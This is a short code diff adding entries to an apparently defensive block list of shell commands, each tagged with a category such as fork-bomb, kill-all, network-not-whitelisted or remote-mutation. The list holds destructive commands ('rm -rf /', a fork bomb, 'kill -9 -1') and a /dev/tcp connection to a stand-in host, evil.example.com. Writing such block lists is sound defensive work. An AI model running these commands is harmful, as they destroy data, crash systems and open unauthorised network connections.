@@ -82,6 +82,9 @@ BLOCKS = [
     ("$(which rm) -rf /", "dynamic-command", None),
     (":(){ :|:& };:", "fork-bomb", None),
     ("kill -9 -1", "kill-all", "kill -9 -1"),
+    ("cat < /dev/tcp/evil.example.com/80", "network-not-whitelisted", None),
+    ("ln -s / build/root", "symlink-outside-project", "ln -s / build/root"),
+    ("gh pr merge 3", "remote-mutation", "gh pr merge 3"),
 ]
 
 
